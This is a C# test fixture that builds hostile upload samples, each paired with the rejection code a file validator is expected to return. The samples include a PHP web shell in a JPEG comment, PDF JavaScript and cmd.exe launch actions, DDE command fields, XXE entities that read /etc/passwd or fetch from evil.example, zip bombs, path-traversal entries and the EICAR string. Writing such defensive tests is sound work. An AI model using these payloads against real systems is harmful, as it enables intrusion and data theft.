using System.Text;
using IpNetwork.Domain.Files;
using IpNetwork.Testing.Files;

namespace IpNetwork.Domain.Tests.Files;

/// <summary>Files that must not get in, each under the name it would come with.</summary>
internal static class Hostile
{
    public static readonly byte[] Eicar = Encoding.ASCII.GetBytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTI" + "VIRUS-TEST-FILE!$H+H*");
    private static readonly byte[] Program = [0x4D, 0x5A, 0x90, 0, .. new byte[60], .. Encoding.ASCII.GetBytes("!This program cannot be run in DOS mode.\r\n$"), .. new byte[100]];
    private static readonly byte[] Page = Encoding.ASCII.GetBytes("<html><script>alert(1)</script></html>");
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512]];

    public static IEnumerable<HostileFile> All() => [.. Liars(), .. Broken(), .. Pdfs(), .. Pictures(), .. Offices(), .. Ofds(), .. Archives(), .. Bombs(), .. Infected()];

    /// <summary>Every kind under every other kind's name, and things that are of no kind.</summary>
    private static IEnumerable<HostileFile> Liars()
    {
        foreach (var said in FileKinds.All)
        {
            foreach (var (kind, content) in Good.Plain())
            {
                // A document of parts is an archive too, but of things that no archive may hold.
                if (kind != said)
                {
                    yield return new($"{kind}.as.{said}", said, content, "");
                }
            }

            yield return new($"program as {said}", said, Program, "FILE_CONTENT_MISMATCH");
            yield return new($"page as {said}", said, Page, "FILE_CONTENT_MISMATCH");
            yield return new($"old office file as {said}", said, Ole, "FILE_CONTENT_MISMATCH");
            yield return new($"nothing as {said}", said, [], "FILE_EMPTY");
            yield return new($"zeros as {said}", said, new byte[4096], "FILE_CONTENT_MISMATCH");
        }
    }

    private static IEnumerable<HostileFile> Broken()
    {
        foreach (var (kind, content) in Good.Plain())
        {
            foreach (var part in new[] { 0.1, 0.5, 0.99 })
            {
                yield return new($"{kind} cut at {part:P0}", kind, content[..(int)(content.Length * part)], "");
            }

            yield return new($"{kind} with a program behind", kind, [.. content, .. Program], "");
            yield return new($"{kind} with an archive behind", kind, [.. content, .. Samples.Zip(("a.pdf", Samples.Pdf()))], "");
            yield return new($"{kind} behind a page", kind, [.. Page, .. content], "FILE_CONTENT_MISMATCH");
            yield return new($"{kind} with a page behind", kind, [.. content, .. Page], "");
        }
    }

    private static IEnumerable<HostileFile> Pdfs()
    {
        yield return Pdf("script", "FILE_ACTIVE_CONTENT", catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ");
        yield return Pdf("script with an escaped name", "FILE_ACTIVE_CONTENT", catalog: "/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >> ");
        yield return Pdf("script in the names", "FILE_ACTIVE_CONTENT", catalog: "/Names << /JavaScript 9 0 R >> ");
        yield return Pdf("rendition", "FILE_ACTIVE_CONTENT", objects: "9 0 obj << /S /Rendition /JS (app.alert(1)) >> endobj\n");
        yield return Pdf("launch", "FILE_ACTIVE_CONTENT", objects: "9 0 obj << /S/Launch/F(cmd.exe) >> endobj\n");
        yield return Pdf("launch escaped", "FILE_ACTIVE_CONTENT", objects: "9 0 obj << /S/#4caunch/F(cmd.exe) >> endobj\n");
        yield return Pdf("dynamic form", "FILE_ACTIVE_CONTENT", catalog: "/AcroForm << /XFA 9 0 R >> ");
        yield return Pdf("attachment", "FILE_EMBEDDED_CONTENT", objects: "9 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream endobj\n");
        yield return Pdf("attachments by name", "FILE_EMBEDDED_CONTENT", catalog: "/Names << /EmbeddedFiles 9 0 R >> ");
        yield return Pdf("rich media", "FILE_EMBEDDED_CONTENT", objects: "9 0 obj << /Subtype /RichMedia >> endobj\n");
        yield return Pdf("goes into an attachment", "FILE_EMBEDDED_CONTENT", objects: "9 0 obj << /S /GoToE >> endobj\n");
        yield return Pdf("locked", "FILE_ENCRYPTED", info: "/Encrypt 9 0 R ");
        yield return Pdf("locked, escaped", "FILE_ENCRYPTED", info: "/#45ncrypt 9 0 R ");
        yield return Pdf("script in packed objects", "FILE_ACTIVE_CONTENT", objects: Samples.ObjectStream("<< /S /JavaScript /JS (x) >>"));
        yield return Pdf("script in packed objects without a type", "FILE_ACTIVE_CONTENT", objects: Samples.ObjectStream("<< /S /JavaScript /JS (x) >>", "/N 1 /First 4 /Filter /FlateDecode"));
        yield return Pdf("packed objects by a filter that is elsewhere", "FILE_UNREADABLE", objects: Samples.ObjectStream("<< /S /JavaScript >>", "/Type /ObjStm /N 1 /First 4 /Filter 12 0 R"));
        yield return Pdf("packed objects in hexadecimal", "FILE_UNREADABLE", objects: Samples.ObjectStream("<< /S /JavaScript >>", "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"));
        yield return Pdf("packed objects with a predictor", "FILE_UNREADABLE", objects: Samples.ObjectStream("<< >>", "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"));
        yield return Pdf("packed objects that do not unpack", "FILE_UNREADABLE", objects: "9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nnot packed at all\nendstream endobj\n");
        yield return Pdf("script hidden in the body of a stream", "FILE_ACTIVE_CONTENT", objects: "9 0 obj << /Length 60 >>\nstream\n7 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream endobj\n");
        yield return Pdf("script behind a word that looks like a stream", "FILE_ACTIVE_CONTENT", objects: $"8 0 obj (stream\n) endobj\n{Samples.ObjectStream("<< /S /JavaScript >>")}");
        yield return new("pdf without end", FileKind.Pdf, Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << >> endobj\n"), "FILE_UNREADABLE");
        yield return new("pdf without objects", FileKind.Pdf, Encoding.ASCII.GetBytes("%PDF-1.4\nstartxref\n0\n%%EOF"), "FILE_UNREADABLE");
        yield return new("pdf of no version", FileKind.Pdf, [.. "%PDF-x.y"u8, .. Samples.Pdf()[8..]], "FILE_UNREADABLE");
        yield return new("pdf and page", FileKind.Pdf, [.. "%PDF-1.4\n%<html><script>alert(1)</script>\n"u8, .. Samples.Pdf()[9..]], "FILE_TRAILING_CONTENT");
        yield return new("pdf and archive", FileKind.Pdf, [.. Samples.Pdf(), .. new RawZip { Comment = Encoding.ASCII.GetBytes("\nstartxref\n0\n%%EOF\n") }.Add("a", [1]).Bytes()], "FILE_TRAILING_CONTENT");
    }

    private static IEnumerable<HostileFile> Pictures()
    {
        yield return new("png of 50,000 by 50,000", FileKind.Png, Samples.Png(50_000, 50_000), "FILE_IMAGE_TOO_LARGE");
        yield return new("png of no width", FileKind.Png, Samples.Png(0, 4), "FILE_IMAGE_TOO_LARGE");
        yield return new("png of 2^32 - 1", FileKind.Png, Samples.Png(uint.MaxValue, uint.MaxValue), "FILE_IMAGE_TOO_LARGE");
        yield return new("png of 15,000 by 15,000", FileKind.Png, Samples.Png(15_000, 15_000), "FILE_IMAGE_TOO_LARGE");
        yield return new("jpg of 65,535 by 65,535", FileKind.Jpg, Samples.Jpg(65_535, 65_535), "FILE_IMAGE_TOO_LARGE");
        yield return new("jpg of no height", FileKind.Jpg, Samples.Jpg(4, 0), "FILE_IMAGE_TOO_LARGE");
        yield return new("jpg with a page in its comment", FileKind.Jpg, Samples.Jpg(comment: Page), "FILE_TRAILING_CONTENT");
        yield return new("jpg with php in its comment", FileKind.Jpg, Samples.Jpg(comment: Encoding.ASCII.GetBytes("<?PHP system($_GET['c']); ?>")), "FILE_TRAILING_CONTENT");
        yield return new("jpg with a document at its head", FileKind.Jpg, Samples.Jpg(comment: Samples.Pdf()), "FILE_TRAILING_CONTENT");
        yield return new("jpg with text behind", FileKind.Jpg, Samples.Jpg(behind: Encoding.ASCII.GetBytes("hidden")), "FILE_UNREADABLE");
        yield return new("jpg with an old office file behind", FileKind.Jpg, Samples.Jpg(behind: Ole), "FILE_UNREADABLE");
        yield return new("jpg without a picture", FileKind.Jpg, [0xFF, 0xD8, 0xFF, 0xD9], "FILE_UNREADABLE");
        yield return new("png with text behind", FileKind.Png, Samples.Png(behind: Encoding.ASCII.GetBytes("hidden")), "FILE_TRAILING_CONTENT");
        yield return new("png with a flipped bit", FileKind.Png, Flipped(Samples.Png(), 45), "FILE_UNREADABLE");
        yield return new("png with an endless chunk", FileKind.Png, [.. Samples.Png()[..33], 0x7F, 0xFF, 0xFF, 0xFF, .. "IDAT"u8], "FILE_UNREADABLE");
        yield return new("png that is only its head", FileKind.Png, Samples.Png()[..8], "FILE_UNREADABLE");
    }

    private static IEnumerable<HostileFile> Offices()
    {
        yield return Docx("macro", "FILE_ACTIVE_CONTENT", ("word/vbaProject.bin", "x"));
        yield return Docx("macro in capitals", "FILE_ACTIVE_CONTENT", ("word/VBAPROJECT.BIN", "x"));
        yield return Docx("control", "FILE_ACTIVE_CONTENT", ("word/activeX/activeX1.xml", "<a/>"));
        yield return Docx("ribbon", "FILE_ACTIVE_CONTENT", ("customUI/customUI.xml", "<a/>"));
        yield return Docx("macro type", "FILE_ACTIVE_CONTENT", ("[Content_Types].xml", Samples.DocxParts()["[Content_Types].xml"].Replace("officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main", StringComparison.Ordinal)));
        yield return Docx("template type", "FILE_CONTENT_MISMATCH", ("[Content_Types].xml", Samples.DocxParts()["[Content_Types].xml"].Replace("document.main+xml", "template.main+xml", StringComparison.Ordinal)));
        yield return Docx("embedded object", "FILE_EMBEDDED_CONTENT", ("word/embeddings/oleObject1.bin", "x"));
        yield return Docx("embedded program", "FILE_EMBEDDED_CONTENT", ("word/embeddings/setup.exe", "MZ"));
        yield return Docx("program as a picture", "FILE_EMBEDDED_CONTENT", ("word/media/image1.png", "MZ\u0090"));
        yield return Docx("archive as a picture", "FILE_EMBEDDED_CONTENT", ("word/media/image1.png", "PK\u0003\u0004xxxx"));
        yield return Docx("template from outside", "FILE_EXTERNAL_CONTENT", ("word/_rels/settings.xml.rels", Relation("attachedTemplate", "http://evil.example/a.dotm")));
        yield return Docx("object from outside", "FILE_EXTERNAL_CONTENT", ("word/_rels/document.xml.rels", Relation("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example")));
        yield return Docx("frame from outside", "FILE_EXTERNAL_CONTENT", ("word/_rels/webSettings.xml.rels", Relation("frame", "http://evil.example/a")));
        yield return Docx("field that calls", "FILE_ACTIVE_CONTENT", ("word/document.xml", Samples.DocxParts("<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>")["word/document.xml"]));
        yield return Docx("XXE", "FILE_XML_DEFINITIONS", ("word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w>&e;</w>"));
        yield return Docx("XXE in the types", "FILE_XML_DEFINITIONS", ("[Content_Types].xml", "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://evil.example/\"> %e;]><Types/>"));
        yield return Docx("XXE in the relations", "FILE_XML_DEFINITIONS", ("_rels/.rels", "<!DOCTYPE r SYSTEM \"http://evil.example/r.dtd\"><r/>"));
        yield return Docx("billion laughs", "FILE_XML_DEFINITIONS", ("word/styles.xml", "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>"));
        yield return new("docx with XXE in UTF-16", FileKind.Docx, Samples.Zip([.. Samples.DocxParts().Where(p => p.Key != "word/document.xml").Select(p => (p.Key, Encoding.UTF8.GetBytes(p.Value))),
            ("word/document.xml", (byte[])[0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")])]), "FILE_XML_DEFINITIONS");
        yield return Docx("part that is no XML", "FILE_UNREADABLE", ("word/document.xml", "<w:document"));
        yield return Docx("slip", "FILE_UNSAFE_ENTRY", ("../../etc/cron.d/x", "x"));
        yield return new("docx without a document", FileKind.Docx, Samples.Zip(new Dictionary<string, string> { ["[Content_Types].xml"] = Samples.DocxParts()["[Content_Types].xml"] }), "FILE_CONTENT_MISMATCH");
        yield return new("xlsx with a macro sheet", FileKind.Xlsx, Samples.Zip(With(Samples.XlsxParts(), ("xl/macrosheets/sheet1.xml", "<a/>"))), "FILE_ACTIVE_CONTENT");
        yield return new("xlsx with a call", FileKind.Xlsx, Samples.Zip(With(Samples.XlsxParts(), ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc\"/></externalLink>"))), "FILE_ACTIVE_CONTENT");
        yield return new("xlsx with a macro inside an embedded table", FileKind.Docx, Samples.Zip([.. Samples.DocxParts().Select(p => (p.Key, Encoding.UTF8.GetBytes(p.Value))),
            ("word/embeddings/table.xlsx", Samples.Zip(With(Samples.XlsxParts(), ("xl/vbaProject.bin", "x"))))]), "FILE_ACTIVE_CONTENT");
    }

    private static IEnumerable<HostileFile> Ofds()
    {
        yield return Ofd("XXE", "FILE_XML_DEFINITIONS", ("OFD.xml", "<!DOCTYPE o [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><OFD>&e;</OFD>"));
        yield return Ofd("XXE in its document", "FILE_XML_DEFINITIONS", ("Doc_0/Document.xml", "<!DOCTYPE o SYSTEM \"http://evil.example/o.dtd\"><o/>"));
        yield return Ofd("program inside", "FILE_EMBEDDED_CONTENT", ("Doc_0/Attachs/a.dat", "MZ\u0090"));
        yield return Ofd("slip", "FILE_UNSAFE_ENTRY", ("Doc_0/../../x", "x"));
        yield return Ofd("body that is not there", "FILE_CONTENT_MISMATCH", ("OFD.xml", Samples.OfdParts()["OFD.xml"].Replace("Doc_0", "Doc_9", StringComparison.Ordinal)));
        yield return Ofd("other root", "FILE_CONTENT_MISMATCH", ("OFD.xml", "<other/>"));
    }

    private static IEnumerable<HostileFile> Archives()
    {
        foreach (var name in new[] { "../evil.pdf", "a/../../evil.pdf", "/etc/evil.pdf", "C:\\evil.pdf", "..\\evil.pdf", "a\0b.pdf", "con:evil.pdf", "./evil.pdf", "" })
        {
            yield return new($"slip by “{name}”", FileKind.Zip, new RawZip().Add(name, Samples.Pdf()).Bytes(), "FILE_UNSAFE_ENTRY");
        }

        foreach (var name in new[] { "setup.exe", "a.pdf.exe", "run.js", "page.html", "inner.zip", "old.doc", "noextension", "a.exe.pdf", "evil\u202Efdp.pdf" })
        {
            yield return new($"archive with {name}", FileKind.Zip, Samples.Zip((name, Samples.Pdf())), "");
        }

        yield return new("link", FileKind.Zip, new RawZip().Add("link.pdf", "/etc/passwd"u8.ToArray(), new() { MadeBy = (3 << 8) | 20, Attributes = 0xA1FF_0000 }).Bytes(), "FILE_UNSAFE_ENTRY");
        yield return new("two names for one entry", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf(), new() { LocalName = "a.exe" }).Bytes(), "FILE_UNREADABLE");
        yield return new("one name twice", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf()).Add("A.pdf", Samples.Pdf()).Bytes(), "FILE_UNSAFE_ENTRY");
        yield return new("locked archive", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf(), new() { Flags = 1 }).Bytes(), "FILE_ENCRYPTED");
        yield return new("unknown packing", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf(), new() { Method = 99 }).Bytes(), "FILE_UNREADABLE");
        yield return new("entries that share their bytes", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf()).Add("b.pdf", Samples.Pdf(), new() { Offset = 0 }).Bytes(), "");
        yield return new("bytes that belong to nothing", FileKind.Zip, new RawZip { BeforeDirectory = [.. Program] }.Add("a.pdf", Samples.Pdf()).Bytes(), "FILE_TRAILING_CONTENT");
        yield return new("archive with a comment", FileKind.Zip, new RawZip { Comment = Page }.Add("a.pdf", Samples.Pdf()).Bytes(), "FILE_TRAILING_CONTENT");
        yield return new("archive of nothing", FileKind.Zip, [.. "PK\x03\x04"u8, .. new RawZip().Bytes()], "");
        yield return new("a liar inside", FileKind.Zip, Samples.Zip(("a.pdf", Samples.Png())), "FILE_CONTENT_MISMATCH");
        yield return new("a script inside a document inside", FileKind.Zip, Samples.Zip(("a.pdf", Samples.Pdf(catalog: "/OpenAction << /S /JavaScript >> "))), "FILE_ACTIVE_CONTENT");
        yield return new("a macro inside a document inside", FileKind.Zip, Samples.Zip(("a.docx", Samples.Zip(With(Samples.DocxParts(), ("word/vbaProject.bin", "x"))))), "FILE_ACTIVE_CONTENT");
        yield return new("smaller than it says", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf(), new() { Size = 5_000_000 }).Bytes(), "FILE_UNREADABLE");
        yield return new("larger than it says", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf(), new() { Size = 10 }).Bytes(), "FILE_UNREADABLE");
        yield return new("a program among the litter", FileKind.Zip, Samples.Zip(("a.pdf", Samples.Pdf()), ("__MACOSX/._a.pdf", Program)), "FILE_ENTRY_NOT_ALLOWED");
    }

    private static IEnumerable<HostileFile> Bombs()
    {
        var zeros = new byte[64 * 1024 * 1024];
        yield return new("archive that grows", FileKind.Zip, Samples.Zip(("a.pdf", zeros)), "FILE_EXPANDS_TOO_FAR");
        yield return new("archive that grows behind a sound file", FileKind.Zip, Samples.Zip(("a.pdf", Samples.Pdf()), ("b.png", [.. Samples.Png(), .. new byte[16 * 1024 * 1024]])), "FILE_EXPANDS_TOO_FAR");
        yield return new("docx that grows", FileKind.Docx, Samples.Zip([.. Samples.DocxParts().Select(p => (p.Key, Encoding.UTF8.GetBytes(p.Value))), ("word/media/image1.emf", zeros)]), "FILE_EXPANDS_TOO_FAR");
        yield return new("xlsx that grows in many parts", FileKind.Xlsx, Samples.Zip([.. Samples.XlsxParts().Select(p => (p.Key, Encoding.UTF8.GetBytes(p.Value))),
            .. Enumerable.Range(0, 60).Select(n => ($"xl/media/image{n}.emf", new byte[7 * 1024 * 1024]))]), "FILE_EXPANDS_TOO_FAR");
        yield return new("ofd that grows", FileKind.Ofd, Samples.Zip([.. Samples.OfdParts().Select(p => (p.Key, Encoding.UTF8.GetBytes(p.Value))), ("Doc_0/Res/a.jb2", zeros)]), "FILE_EXPANDS_TOO_FAR");
        yield return new("archive that says it grows to 4 GB", FileKind.Zip, new RawZip().Add("a.pdf", Samples.Pdf(), new() { Size = uint.MaxValue - 1 }).Bytes(), "FILE_EXPANDS_TOO_FAR");
        yield return new("archive of 60,000 entries", FileKind.Zip, Many(60_000), "FILE_EXPANDS_TOO_FAR");
        yield return new("archive that says it has 65,535 entries", FileKind.Zip, new RawZip { Count = 65_535 }.Add("a.pdf", Samples.Pdf()).Bytes(), "FILE_EXPANDS_TOO_FAR");
        yield return new("archives within archives", FileKind.Zip, Samples.Zip(("a.zip", Samples.Zip(("b.zip", Samples.Zip(("c.zip", Samples.Zip(("d.pdf", zeros[..1000])))))))), "");
        yield return Pdf("packed objects that grow", "FILE_EXPANDS_TOO_FAR", objects: Samples.ObjectStream($"<< >>{new string(' ', 40 * 1024 * 1024)}"));
        yield return Pdf("packed twice", "FILE_EXPANDS_TOO_FAR", objects: "9 0 obj << /Filter [/FlateDecode /FlateDecode] /Length 3 >>\nstream\nxxx\nendstream endobj\n");
        yield return Pdf("a page that grows", "FILE_EXPANDS_TOO_FAR", objects: $"9 0 obj << /Filter /FlateDecode >>\nstream\n{Encoding.Latin1.GetString(Samples.Deflate(new byte[300 * 1024 * 1024]))}\nendstream endobj\n");
        yield return Pdf("600,000 objects", "FILE_EXPANDS_TOO_FAR", objects: string.Concat(Enumerable.Repeat("9 0 obj 1 endobj\n", 600_000)));
    }

    private static IEnumerable<HostileFile> Infected()
    {
        yield return Pdf("test virus", "FILE_LOOKS_INFECTED", objects: $"9 0 obj << /Length 68 >>\nstream\n{Encoding.ASCII.GetString(Eicar)}\nendstream endobj\n");
        yield return new("plain test virus", FileKind.Pdf, Eicar, "FILE_LOOKS_INFECTED");
        yield return new("test virus in a comment", FileKind.Jpg, Samples.Jpg(comment: Eicar), "FILE_LOOKS_INFECTED");
        yield return new("test virus behind a png", FileKind.Png, Samples.Png(behind: Eicar), "FILE_LOOKS_INFECTED");
        yield return new("test virus zipped", FileKind.Zip, Samples.Zip(("eicar.com", Eicar)), "FILE_LOOKS_INFECTED");
        yield return new("test virus zipped twice", FileKind.Zip, Samples.Zip(("inner.zip", Samples.Zip(("eicar.com", Eicar)))), "FILE_LOOKS_INFECTED");
        yield return new("test virus zipped under a good name", FileKind.Zip, Samples.Zip(("a.pdf", Eicar)), "FILE_LOOKS_INFECTED");
        yield return new("test virus in the litter", FileKind.Zip, Samples.Zip(("a.pdf", Samples.Pdf()), (".DS_Store", Eicar)), "FILE_LOOKS_INFECTED");
        yield return Docx("test virus", "FILE_LOOKS_INFECTED", ("word/media/image1.png", Encoding.ASCII.GetString(Eicar)));
        yield return new("docx with a test virus, zipped", FileKind.Zip, Samples.Zip(("a.docx", Samples.Zip(With(Samples.DocxParts(), ("word/media/a.png", Encoding.ASCII.GetString(Eicar)))))), "FILE_LOOKS_INFECTED");
        yield return Ofd("test virus", "FILE_LOOKS_INFECTED", ("Doc_0/a.dat", Encoding.ASCII.GetString(Eicar)));
    }

    private static HostileFile Pdf(string what, string code, string objects = "", string catalog = "", string info = "") => new($"pdf: {what}", FileKind.Pdf, Samples.Pdf(objects, catalog, info), code);

    private static HostileFile Docx(string what, string code, params (string, string)[] parts) => new($"docx: {what}", FileKind.Docx, Samples.Zip(With(Samples.DocxParts(), parts)), code);

    private static HostileFile Ofd(string what, string code, params (string, string)[] parts) => new($"ofd: {what}", FileKind.Ofd, Samples.Zip(With(Samples.OfdParts(), parts)), code);

    private static Dictionary<string, string> With(Dictionary<string, string> parts, params (string Name, string Content)[] more)
    {
        foreach (var (name, content) in more)
        {
            parts[name] = content;
        }

        return parts;
    }

    private static string Relation(string type, string target) =>
        $"<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>";

    private static byte[] Flipped(byte[] content, int at)
    {
        content[at] ^= 1;
        return content;
    }

    private static byte[] Many(int count)
    {
        var zip = new RawZip();
        for (var n = 0; n < count; n++)
        {
            zip.Add($"{n}.pdf", [1], new() { Method = 0 });
        }

        return zip.Bytes();
    }
}

/// <param name="Code">The refusal it must meet; empty where any will do.</param>
internal sealed record HostileFile(string What, FileKind Kind, byte[] Content, string Code)
{
    public override string ToString() => What;
}
